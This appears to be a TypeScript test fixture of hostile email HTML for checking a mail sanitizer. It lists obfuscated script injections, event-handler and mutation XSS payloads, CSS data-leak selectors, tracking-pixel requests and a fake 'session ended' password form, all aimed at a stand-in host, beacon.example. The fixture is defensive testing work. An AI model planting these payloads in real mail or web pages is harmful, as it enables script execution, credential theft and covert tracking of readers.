// HTML that mails attack with: scripts, requests, navigation, cover. Every address in it contains the word BEACON, and
// every mail says something readable, which must stay readable (H3).

/** What no request may contain, ever. */
export const BEACON = 'beacon';

const AWAY = `http://beacon.example/${BEACON}`;
const HOME = `/${BEACON}`;
const ALERT = `window.top.__taken=1;fetch('${AWAY}/js')`;

/** Name and body; the readable text is added by `hostileMail`. */
export const HOSTILE: Record<string, string> = {
  'script': `<script>${ALERT}</script><script src="${AWAY}.js"></script>`,
  'script in odd case and pieces': `<ScRiPt>${ALERT}</sCrIpT><scr<script>ipt>${ALERT}</scr</script>ipt>`,
  'event attributes': `<img src="x-${BEACON}" onerror="${ALERT}"><div onmouseover="${ALERT}" onclick=${ALERT.replace(/'/g, '')}>hover</div>
    <body onload="${ALERT}"><svg onload="${ALERT}"></svg><details open ontoggle="${ALERT}"><summary>s</summary></details>
    <input autofocus onfocus="${ALERT}"><marquee onstart="${ALERT}">m</marquee>`,
  'javascript addresses': `<a href="javascript:${ALERT}">one</a><a href="java&#9;script:${ALERT}">two</a>
    <a href="&#106;avascript:${ALERT}">three</a><a href="JaVaScRiPt&colon;${ALERT}">four</a>
    <a href=" javascript:${ALERT}">five</a><a href="vbscript:x">six</a><a href="data:text/html,<script>${ALERT}</script>">seven</a>
    <form action="javascript:${ALERT}"><button formaction="javascript:${ALERT}">press</button></form>`,
  'svg and mathml': `<svg><script>${ALERT}</script><a xlink:href="javascript:${ALERT}"><text y="20">t</text></a>
    <image href="${AWAY}.svg"/><use href="${AWAY}.svg#a"/><animate attributeName="href" to="javascript:${ALERT}"/>
    <foreignObject><iframe src="${AWAY}"></iframe></foreignObject></svg>
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${ALERT}&gt;"></style></mglyph></table></mtext></math>`,
  'mutation': `<noscript><p title="</noscript><img src=x-${BEACON} onerror=${ALERT}>"></noscript>
    <form><math><mtext></form><form><mglyph><style></math><img src onerror=${ALERT}></style></mglyph></form>
    <xmp><p title="</xmp><img src=x onerror=${ALERT}>"></xmp><textarea></textarea><img src=x onerror=${ALERT}></textarea>
    <title><a title="</title><img src=x onerror=${ALERT}>"></title><plaintext-x></plaintext-x>`,
  'frames and objects': `<iframe src="${AWAY}"></iframe><iframe srcdoc="<script>${ALERT}</script>"></iframe><object data="${AWAY}.swf"></object>
    <embed src="${AWAY}.swf"><applet code="x" archive="${AWAY}.jar"></applet><frameset><frame src="${AWAY}"></frameset><portal src="${AWAY}"></portal>`,
  'pictures': `<img src="${AWAY}.png"><img src="//beacon.example/${BEACON}.png"><img src="\\\\beacon.example\\${BEACON}.png"><img src="/\\beacon.example/${BEACON}.png">
    <img srcset="${AWAY}-2x.png 2x, ${AWAY}-1x.png 1x"><picture><source srcset="${AWAY}.webp"><img src="${AWAY}-f.png"></picture>
    <img src="ht&#9;tp://beacon.example/${BEACON}-tab.png"><img lowsrc="${AWAY}" dynsrc="${AWAY}"><input type="image" src="${AWAY}-i.png">
    <img src="HTTP://BEACON.EXAMPLE/${BEACON}-upper.png"><img src=" ${AWAY}-blank.png"><image src="${AWAY}-image.png">`,
  'our own addresses': `<img src="${HOME}.png"><img src="${BEACON}.png"><img src="../../../../${BEACON}.png"><img src="?${BEACON}=1">
    <img src="/api/v1/auth/sign-out?${BEACON}"><link rel="stylesheet" href="${HOME}.css"><img src="#${BEACON}">`,
  'styles': `<style>@import url(${AWAY}.css); @font-face{font-family:b;src:url(${AWAY}.woff)} body{background:url(${AWAY}-bg.png)} p{font-family:b}
    #a[value^="a"]{background:url(${AWAY}-leak)}</style><div style="background-image:url('${AWAY}-in.png')">x</div>
    <div style="background:u\\72l(${AWAY}-esc.png)">x</div><div style="list-style:url(${AWAY}-list.png);cursor:url(${AWAY}.cur),auto">x</div>
    <div style="background-image:image-set('${AWAY}-set.png' 1x)">x</div><div style="behavior:url(${AWAY}.htc);-moz-binding:url(${AWAY}.xml)">x</div>
    <div style="width:expression(${ALERT})">x</div><table background="${AWAY}-table.png"><tr><td background="${AWAY}-td.png">c</td></tr></table>`,
  'links that fetch': `<link rel="stylesheet" href="${AWAY}.css"><link rel="preload" as="image" href="${AWAY}.png"><link rel="prefetch" href="${AWAY}">
    <link rel="dns-prefetch" href="//beacon.example"><link rel="preconnect" href="//beacon.example"><link rel="icon" href="${AWAY}.ico">
    <link rel="manifest" href="${AWAY}.json"><link rel="modulepreload" href="${AWAY}.mjs">`,
  'media': `<video src="${AWAY}.mp4" poster="${AWAY}.png" autoplay></video><audio src="${AWAY}.mp3" autoplay></audio>
    <video><source src="${AWAY}.webm"><track src="${AWAY}.vtt" default></video><bgsound src="${AWAY}.mid">`,
  'navigation': `<meta http-equiv="refresh" content="0;url=${AWAY}"><meta http-equiv="refresh" content="0;url=javascript:${ALERT}">
    <base href="${AWAY}/"><base target="_top"><a href="x-${BEACON}" target="_top">top</a><a href="${AWAY}" ping="${AWAY}/ping">ping</a>
    <form action="${AWAY}" method="post" target="_top"><input name="q" value="1"><button>send</button></form>
    <meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  'cover': `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">Your session has ended: sign in
    <form action="${AWAY}"><input name="password"></form></div>
    <div style="position:absolute;top:-3000px;left:-3000px;width:9000px;height:9000px;background:red;opacity:.9">red</div>
    <div style="margin:-9999px;transform:scale(50);filter:blur(0)">big</div><dialog open style="position:fixed;inset:0">d</dialog>
    <div popover id="p">pop</div><button popovertarget="p">p</button>`,
  'size': `<div style="height:90000000px;width:90000000px">far</div><img width="99999999" height="99999999"><table cellpadding="9999999"><tr><td>c</td></tr></table>`,
  'names that shadow': `<a id="defaultView">1</a><form id="body"><input name="scrollHeight"></form><img name="documentElement"><a id="querySelector">2</a>
    <form name="createElement"><input name="attributes"></form><object id="forms"></object>`,
  'templates and slots': `<template><img src="${AWAY}.png"><script>${ALERT}</script></template><template shadowrootmode="open"><img src="${AWAY}-shadow.png">
    <style>:host{background:url(${AWAY}-host.png)}</style></template><slot name="${BEACON}"></slot>`,
  'comments and conditionals': `<!--[if gte IE 4]><script>${ALERT}</script><![endif]--><!--><img src=x onerror=${ALERT}>--><![CDATA[<img src="${AWAY}.png">]]>
    <?xml-stylesheet href="${AWAY}.css"?><!doctype html [<!ENTITY x SYSTEM "${AWAY}">]>&x;`,
  'deep nesting': `${'<div>'.repeat(5_000)}deep${'</div>'.repeat(5_000)}<img src="${AWAY}.png">`,
  'unclosed': `<div style="color:red" title="<img src='${AWAY}.png' <p <<<< <img src="${AWAY}-two.png" `,
};

/** The whole HTML of a hostile mail; `word` must stay readable. */
export function hostileHtml(attack: string, word: string): string {
  return `<html><head></head><body><p>${word}</p>${HOSTILE[attack] ?? ''}</body></html>`;
}
